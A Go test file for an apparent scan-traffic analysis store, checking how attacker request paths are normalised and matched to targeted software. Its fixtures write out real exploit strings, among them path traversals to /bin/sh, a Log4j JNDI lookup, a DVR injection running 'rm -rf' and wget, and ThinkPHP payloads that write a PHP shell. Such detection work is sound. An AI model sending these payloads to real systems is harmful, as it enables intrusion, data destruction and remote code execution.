package store

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"murmuration/pkg/event"
)

// heldElsewhere are the questions with a test of their own: those of cmd/loader/questions_test.go on real captures, and
// those below.
var heldElsewhere = []string{
	"new_ports", "prefix_hours", "shared_sources", "first_scans", "telescope_waits", "dispersion", "source_sizes", "load_history",
	"normal_paths", "what_for", "campaign_targets", "path_forms", "path_meanings", "port_meanings", "recent_surges",
	// pkg/netinfo/keep, spread_test.go.
	"source_context", "top_asns", "top_countries", "campaign_networks", "campaign_spread",
}

// request stores one request a path.
func request(t *testing.T, s *Store, token string, paths []string) {
	t.Helper()
	b := new(event.Batch)
	for i, p := range paths {
		b.Append(&event.Event{
			Time: time.Date(2026, 5, 1, 0, 0, i%3600, 0, time.UTC).UnixMicro(), Src: event.IP{10: 0xff, 11: 0xff, 15: 1}, Dst: event.IP{10: 0xff, 11: 0xff, 15: 2},
			Dport: 80, Proto: event.ProtoTCP, Kind: event.KindRequest, Technique: event.TechniqueRequest, Method: "GET", Path: p, Packets: 1,
		})
	}
	require.NoError(t, s.InsertEvents(t.Context(), b, 1, token))
}

// forms reads path_forms.
func forms(t *testing.T, s *Store) map[string]string {
	t.Helper()
	r, err := s.Query(t.Context(), "SELECT path, form FROM path_forms", nil)
	require.NoError(t, err)
	out := map[string]string{}
	for r.Next() {
		v, err := r.Values()
		require.NoError(t, err)
		out[v[0].(string)] = v[1].(string)
	}
	require.NoError(t, r.Err())
	require.NoError(t, r.Close())
	return out
}

func TestPathForms(t *testing.T) {
	s := open(t)
	want := map[string]string{
		"/":                                 "/",
		"*":                                 "*",
		"":                                  "",
		"/HNAP1":                            "/hnap1",
		"/GponForm/diag_Form?images/":       "/gponform/diag_form?images=",
		"/cgi-bin/.%2e/.%2e/%2e%2e/bin/sh":  "/cgi-bin/../bin/sh",
		"/cgi-bin/.%%32%65/.%%32%65/bin/sh": "/cgi-bin/../bin/sh",
		"/cgi-bin/%%32%65%%32%45/%2%65%%32e/bin/sh": "/cgi-bin/../bin/sh",
		"/100%%":                               "/100%%",
		"/..%c0%af..%C0%AFetc/passwd":          "/../etc/passwd",
		"/%c0%ae%C0%ae/%25c0%25ae./etc/passwd": "/../etc/passwd",
		"/scripts/..%c1%9c../winnt":            "/scripts/../winnt",
		"/\xc0\xae\xc0\xae/x":                  "/../x",
		"[2001:db8::1]:443":                    "[{ip}]:443",
		"[::ffff:192.0.2.1]:8443":              "[{ip}]:{n}",
		"[fe80::1%25eth0]:80":                  "[{ip}]:80",
		"/[::1]/[a]/[b:c]":                     "/[{ip}]/[a]/[b:c]",
		"/${jndi:ldap://192.0.2.1:1389/a}":     "/${jndi:ldap:/{ip}:{n}/a}",
		// A name in the target is of somebody else, an address may be the target's own.
		"http://example.com/":                    "{host}/",
		"HTTPS://user:pw@Example.com:8443/A?b=1": "{host}/a?b=",
		"http://example.com":                     "{host}",
		"http://example.com?a=1":                 "{host}?a=",
		"http://192.0.2.1.example.com/":          "{host}/",
		"http://localhost/x":                     "{host}/x",
		"http://192.0.2.1":                       "",
		"http://user@192.0.2.1/":                 "/",
		"http://192.0.2.1?a=1":                   "?a=",
		"http://[2001:db8::1]:8080/x":            "/x",
		"http:///x":                              "/x",
		"{host}/a":                               "{host}/a",
		"/a/..;/..;/manager/html":                "/a/../manager/html",
		"//a/./b//c/":                            "/a/b/c/",
		`/a\b`:                                   "/a/b",
		"http://192.0.2.1:80/x?Y=1&b=2#f":        "/x?b=&y=",
		"/x?b=9&y&b=3&=4":                        "/x?b=&y=",
		"/index.php?s=/Index/x&function=call&vars[0]=md5&vars[1][]=x": "/index.php?function=&s=&vars[0]=&vars[1][]=",
		"/nmaplowercheck1617181920":                                   "/nmaplowercheck{n}",
		"/x/550e8400-e29b-41d4-a716-446655440000/deadbeef01":          "/x/{uuid}/{hex}",
		"/d41d8cd98f00b204e9800998ecf8427e.php":                       "/{hex}.php",
		"/deadbe1234/0491f166/1979f8b878957642/12345678/":             "/{hex}/{hex}/{hex}/{n}/",
		"/page12345678/e1234567/0xDEADBEEF01/cafe_feedface1-2026":     "/page{n}/{hex}/{hex}/cafe_{hex}-{n}",
		"http://h.example/foo#bar?z=1":                                "{host}/foo",
		"http://h.example#/foo":                                       "{host}",
		"/%2570hpMyAdmin/":                                            "/phpmyadmin/",
		"/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/x":             "/shell?cd=",
		"/what%3Fx=1":            "/what?x=1",
		"192.0.2.1:443":          "{ip}:443",
		"/v1.24/containers/json": "/v1.24/containers/json",
		"/100%":                  "/100%",
		"/\xff\x00":              "/\xff\x00",
	}
	var paths []string
	for p := range want {
		paths = append(paths, p)
	}
	request(t, s, "a", paths)
	assert.Equal(t, want, forms(t, s))
}

// However a path is disguised, its form is the same; and a form is its own form.
func TestPathFormsSeeThroughDisguise(t *testing.T) {
	s := open(t)
	r := rand.New(rand.NewPCG(8, 8))
	bases := []string{"/phpmyadmin/index.php", "/cgi-bin/../../etc/passwd", "/a/b-c_d.e~f", "/.env", "/wp-login.php?action=&redirect_to=", "/ä/ö"}
	disguised := map[string]string{}
	var paths []string
	for _, base := range bases {
		path, query, hasQuery := strings.Cut(base, "?")
		for range 60 {
			out := disguise(r, path)
			if hasQuery {
				var fields []string
				for _, f := range strings.Split(query, "&") {
					fields = append(fields, f+fmt.Sprint(r.IntN(1000)))
				}
				r.Shuffle(len(fields), func(i, j int) { fields[i], fields[j] = fields[j], fields[i] })
				out += "?" + strings.Join(fields, "&")
			}
			if _, ok := disguised[out]; !ok {
				disguised[out] = base
				paths = append(paths, out)
			}
		}
	}
	request(t, s, "a", append(paths, bases...))
	got := forms(t, s)
	var own []string
	for p, base := range disguised {
		require.Equal(t, got[base], got[p], "%s is %s", p, base)
		own = append(own, got[p])
	}
	request(t, s, "b", own)
	got = forms(t, s)
	for _, f := range own {
		require.Equal(t, f, got[f])
	}
}

// disguise writes a path as scanners do to slip past filters.
func disguise(r *rand.Rand, path string) string {
	var out strings.Builder
	for _, c := range []byte(path) {
		switch k := r.IntN(8); {
		case c == '/' && k < 2:
			out.WriteString([]string{"//", "/./"}[k])
		case k == 2:
			fmt.Fprintf(&out, "%%%02x", c)
		case k == 3:
			fmt.Fprintf(&out, "%%25%02X", c)
		case k == 4 && c < 0x80:
			out.WriteString(strings.ToUpper(string(c)))
		default:
			out.WriteByte(c)
		}
	}
	return out.String()
}

// Every pattern means what it is there for: a path as scanners send it, and the software that it must be taken for.
func TestPathMeanings(t *testing.T) {
	s := open(t)
	want := map[string]string{
		"/cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd": "phf", "/cgi-bin/test-cgi?*": "test-cgi", "/cgi-bin/php.cgi?/etc/passwd": "PHP",
		"/cgi-bin/.%2e/.%2e/bin/sh": "Apache httpd 2.4.49, 2.4.50", "/cgi-bin/.%%32%65/.%%32%65/bin/sh": "Apache httpd 2.4.49, 2.4.50",
		"/cgi-bin/%%32%65%%32%65/bin/sh": "Apache httpd 2.4.49, 2.4.50", "/cgi-bin/luci/;stok=/locale?form=country": "OpenWrt, TP-Link Archer",
		"/cgi-bin/nas_sharing.cgi?user=messagebus": "D-Link NAS", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=x": "Netgear DGN1000",
		"/tmUnblock.cgi": "Linksys", "/HNAP1/": "HNAP (D-Link, Linksys)", "/GponForm/diag_Form?images/": "Dasan GPON",
		"/boaform/admin/formLogin": "Boa (GPON and ONU devices)", "/goform/setUsbUnload": "GoAhead (Tenda and others)",
		"/ctrlt/DeviceUpgrade_1": "Huawei HG532", "/picsdesc.xml": "Realtek SDK", "/shell?cd+/tmp": "MVPower DVR",
		"/device.rsp?opt=user&cmd=list": "TBK DVR", "/SDK/webLanguage": "Hikvision", "/onvif/device_service": "ONVIF", "/sdk": "VMware",
		"/nmaplowercheck1617181920": "Nmap", "/nice%20ports%2C/Tri%6Eity.txt%2ebak": "Nmap",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php":                                                   "PHPUnit",
		"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x": "ThinkPHP",
		"/_ignition/execute-solution": "Laravel Ignition", "/.env": "Laravel and others", "/app/.env.production": "Laravel and others",
		"/.git/config": "version control", "/.aws/credentials": "AWS", "/.ssh/id_rsa": "hidden files", "/phpMyAdmin-4.8.1/": "phpMyAdmin",
		"/pma/index.php": "phpMyAdmin", "/adminer.php": "Adminer", "/xmlrpc.php": "WordPress", "/wp-login.php": "WordPress",
		"/blog/wp-includes/wlwmanifest.xml": "WordPress", "/manager/html": "Apache Tomcat", "/jmx-console/": "JBoss", "/invoker/JMXInvokerServlet": "JBoss",
		"/wls-wsat/CoordinatorPortType": "Oracle WebLogic", "/_async/AsyncResponseService": "Oracle WebLogic", "/console/css/%252e%252e%252fconsole.portal": "Oracle WebLogic",
		"/axis2/axis2-admin/": "Apache Axis2", "/index.action": "Apache Struts", "/actuator/gateway/routes": "Spring Boot", "/solr/admin/info/system?wt=json": "Apache Solr",
		"/jenkins/script": "Jenkins", "/geoserver/web/": "GeoServer", "/nacos/v1/auth/users": "Nacos", "/druid/index.html": "Apache Druid", "/zabbix/": "Zabbix",
		"/api/jsonws/invoke": "Liferay", "/owa/auth/logon.aspx": "Microsoft Exchange", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb": "FortiOS",
		"/dana-na/../dana/html5acc": "Pulse Connect Secure", "/vpn/../vpns/cfg/smb.conf": "Citrix ADC", "/tmui/login.jsp/..;/tmui/locallb": "F5 BIG-IP",
		"/+CSCOT+/translation-table": "Cisco ASA", "/global-protect/login.esp": "PAN-OS GlobalProtect", "/v1.24/containers/json": "Docker", "/api/v1/pods": "Kubernetes",
		"/server-status": "Apache httpd", "/static/../../etc/passwd": "any", "/cgi-bin/status": "CGI scripts", "/robots.txt": "crawlers",
		"/.well-known/security.txt": "people", "/.well-known/acme-challenge/x": "any", "/sitemap.xml": "crawlers", "/favicon.ico": "any", "/": "any", "192.0.2.1:443": "proxies",
		"[2001:db8::1]:443": "proxies", "example.com:8443": "proxies", "http://example.com/": "proxies", "http://example.com/robots.txt": "proxies",
		"http://192.0.2.1:80/phpMyAdmin/scripts/setup.php": "phpMyAdmin", "http://192.0.2.1/": "any",
		"/..%c0%af..%c0%afetc/passwd": "any", "/%c0%ae%c0%ae/etc/passwd": "any",
		"/${jndi:ldap://192.0.2.1:1389/a}": "Apache Log4j", "/%24%7B%24%7B%3A%3A-j%7Dndi:ldap://x.example/a%7D": "Apache Log4j", "/${lower:j}": "Apache Log4j",
		"/currentsetting.htm": "Netgear", "/evox/about": "Trane Tracer SC", "/console": "Oracle WebLogic", "/console?x=1": "Oracle WebLogic",
		"/.gitignore": "version control", "/.github/workflows/ci.yml": "version control", "/.gitlab-ci.yml": "version control", "/.git-credentials": "version control", "/.git": "version control", "/.hg/": "version control",
		"/?s=index/\\think\\Request/input&filter[]=system&data=pwd":                                      "ThinkPHP",
		"/public/index.php?s=index/\\think\\Request/input&filter=phpinfo&data=1":                         "ThinkPHP",
		"/?s=index/\\think\\template\\driver\\file/write&cacheFile=shell.php&content=<?php phpinfo();?>": "ThinkPHP",
		"/containers/json": "Docker", "/images/json?all=1": "Docker", "/v1.41/containers/create?name=x": "Docker", "/containers/0123456789ab/start": "Docker",
		"/v1.24/exec/0123456789ab/start": "Docker", "/containers/x/exec": "Docker", "/v1.24/version": "Docker",
		"/pma": "phpMyAdmin", "/pma2/": "phpMyAdmin", "/PMA2019/": "phpMyAdmin", "/php-myadmin/": "phpMyAdmin", "/db/dbadmin/": "phpMyAdmin",
		"/ecp/": "Microsoft Exchange", "/owa": "Microsoft Exchange", "/autodiscover/autodiscover.json?x": "Microsoft Exchange", "/solr": "Apache Solr", "/nacos": "Nacos", "/druid/": "Apache Druid",
		"/.env2": "Laravel and others", "/.envrc": "Laravel and others", "/adminer-4.8.1-mysql.php": "Adminer", "/actuator;/env": "Spring Boot",
		"/axis2-web/HappyAxis.jsp": "Apache Axis2", "/sitemap_index.xml": "crawlers", "/.htpasswd": "hidden files", "/+CSCOE+/logon.html": "Cisco ASA", "/cgi-bin/luci;stok=x/admin": "OpenWrt, TP-Link Archer",
	}
	// What only begins like one of them, or has a part of its name, is nothing.
	for _, p := range []string{
		"/images/logo.png", "/images/", "/exec/", "/containers/", "/version", "/images/json.png", "/exec/start", "/v1.24/versions",
		"/owarranty", "/ecparts", "/autodiscovery", "/pmap", "/js/pmail.js", "/mydbadmins", "/nacosx", "/druidic", "/solrad", "/consoles", "/jenkinson", "/hudson-river",
		"/geoservers", "/zabbixes", "/actuators", "/administer", "/adminers", "/axis2x", "/wordpresses", "/wp-loginx.php", "/jmx-consoles", "/wls-wsats", "/hnap10", "/manager/htmlx",
		"/.environment", "/.gitx", "/.awsome", "/.sshx", "/cgi-bins/x", "/server-statusx", "/sitemapping", "/robots.txts", "/favicon.icons", "/api/v1/podsx", "/api/jsonwsx", "/dana-nation",
		"/evox/aboutx", "/currentsetting.html", "/+cscommon", "/?s=news", "/shop?filter=1&s=2", "/$%7Bname%7D", "/a:80", "a:80/x", "/cgi-binary",
	} {
		want[p] = ""
	}
	var paths []string
	for p := range want {
		paths = append(paths, p)
	}
	request(t, s, "a", paths)
	got := forms(t, s)
	r, err := s.Query(t.Context(), "SELECT form, software FROM normal_paths_at(hours = 24, at = '2026-05-02')", nil)
	require.NoError(t, err)
	software := map[string]string{}
	for r.Next() {
		v, err := r.Values()
		require.NoError(t, err)
		software[v[0].(string)] = v[1].(string)
	}
	require.NoError(t, r.Close())
	for p, w := range want {
		have, ok := software[got[p]]
		assert.True(t, ok, p)
		assert.Equal(t, w, have, "%s is %s", p, got[p])
	}
	// No pattern is there for nothing: each is the first that matches one of these paths.
	assert.Empty(t, table(t, s, `SELECT pattern FROM path_meanings WHERE rank NOT IN
		(SELECT min(rank) FROM path_forms CROSS JOIN path_meanings WHERE match(form, pattern) GROUP BY path)`))
	assert.Empty(t, table(t, s, "SELECT pattern FROM path_meanings WHERE software = '' OR looking_for = '' OR source = ''"))
}

// The lists are whole: a source for every row, no port twice, the ports that everybody scans.
func TestPortMeanings(t *testing.T) {
	s := open(t)
	assert.Empty(t, table(t, s, "SELECT proto, dport FROM port_meanings WHERE (proto NOT IN ('tcp', 'udp') AND NOT (proto IN ('icmp', 'icmpv6') AND dport = 0)) OR service = '' OR looking_for = '' OR source = ''"))
	assert.Empty(t, table(t, s, "SELECT proto, dport FROM port_meanings GROUP BY proto, dport HAVING count() > 1"))
	for _, list := range []string{"port_meanings", "path_meanings"} {
		assert.Empty(t, table(t, s, `SELECT source FROM `+list+` WHERE match(source, 'CVE') AND NOT match(source, 'CVE-(1999|20[0-2][0-9])-[0-9]{4,7}(\\W|$)')`))
	}
	assert.Equal(t, "redis\ntelnet\n", table(t, s, "SELECT service FROM port_meanings WHERE dport IN (6379, 2323) AND proto = 'tcp' ORDER BY service"))
}

func TestWhatForTakesNetworks(t *testing.T) {
	s := open(t)
	request(t, s, "a", []string{"/.env"})
	for network, rows := range map[string]int{"0.0.0.1/32": 2, "0.0.0.1": 2, "0.0.0.0/0": 2, "::/0": 2, "::ffff:0.0.0.1": 2, "0.0.0.2": 0, "2001:db8::/32": 0} {
		r, err := s.Ask(t.Context(), "what_for", map[string]string{"network": network, "hours": "24", "at": "2026-05-02"})
		require.NoError(t, err, network)
		assert.Equal(t, rows, strings.Count(lines(t, r), "\n"), network)
	}
	for _, network := range []string{"", "ten", "0.0.0.1/", "0.0.0.1/x", "0.0.0.1/33", "1.2.3.4/99"} {
		r, err := s.Ask(t.Context(), "what_for", map[string]string{"network": network, "hours": "24", "at": "2026-05-02"})
		if err == nil {
			for r.Next() {
			}
			err = errors.Join(r.Err(), r.Close())
		}
		assert.Error(t, err, network)
	}
}
